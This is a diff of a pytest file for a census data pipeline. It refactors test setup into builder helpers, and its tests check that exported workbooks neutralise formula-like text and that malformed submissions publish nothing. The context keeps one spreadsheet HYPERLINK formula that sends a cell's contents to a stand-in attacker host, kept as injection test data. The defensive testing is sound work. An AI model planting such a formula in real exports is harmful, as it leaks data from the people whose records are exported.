@@ -7,14 +7,13 @@ stopped by the blocking plausibility check and publish nothing.
 """
 
 import csv
-import json
 
 import pytest
 from openpyxl import load_workbook
 
 from census_pipeline.lib.safe_cells import starts_like_a_formula
 from census_pipeline.runner import summarise
-from tests.builders import EA, person, rules_landing_zone, submission
+from tests.builders import EA, frame_row, person, rules_landing_zone, submission, write_batch, write_frame
 from tests.conftest import materialize_into
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
@@ -34,11 +33,7 @@ PAYLOAD_SUBMISSIONS = [
 def published(tmp_path_factory):
     tmp = tmp_path_factory.mktemp("payloads")
     root = tmp / "landing"
-    rules_landing_zone(root)
-    with open(root / "uploads/pad/2020-11-20/batch.jsonl", "a", encoding="utf-8") as f:
-        f.writelines(json.dumps(s, ensure_ascii=False) + "\n" for s in PAYLOAD_SUBMISSIONS)
-    with open(root / "frame/listing.csv", "a", encoding="utf-8") as f:
-        f.write(f"{LISTED_ONLY},{EA},111,某路9号,1,2,2020-10-20\n")
+    rules_landing_zone(root, PAYLOAD_SUBMISSIONS, [frame_row(LISTED_ONLY, address="某路9号", expected_persons=2)])
     result, con = materialize_into(root, tmp)
     con.close()
     summary = summarise(result)
@@ -104,16 +99,9 @@ def test_workbook_neutralises_text_and_keeps_negative_numbers(tmp_path):
 @pytest.mark.xdist_group("malformed_census")  # a run of its own: beside the one of `published`
 def test_a_census_of_mostly_malformed_lines_publishes_nothing(tmp_path):
     root = tmp_path / "landing"
-    day = root / "uploads/pad/2020-11-20"
-    day.mkdir(parents=True)
     good = submission("g1", f"H{EA}0001", [person(1, "亥一", seq=87)])
-    day.joinpath("batch.jsonl").write_text(
-        json.dumps(good, ensure_ascii=False) + "\n" + "{not json\n" + "garbage\n" + '{"submission_id": 7}\n'
-        + "[]\n", encoding="utf-8")
-    (root / "frame").mkdir()
-    (root / "frame/listing.csv").write_text(
-        "household_id,ea_code,urban_rural_code,address,household_type,expected_persons,listed_on\n"
-        f"H{EA}0001,{EA},111,某路1号,1,1,2020-10-20\n", encoding="utf-8")
+    write_batch(root / "uploads/pad/2020-11-20/batch.jsonl", [good, "{not json", "garbage", '{"submission_id": 7}', "[]"])
+    write_frame(root, [frame_row(f"H{EA}0001")])
     result, con = materialize_into(root, tmp_path)
     received, quarantined = con.execute(
         "select sum(lines_received), sum(lines_quarantined) from quality.ingest_ledger").fetchone()
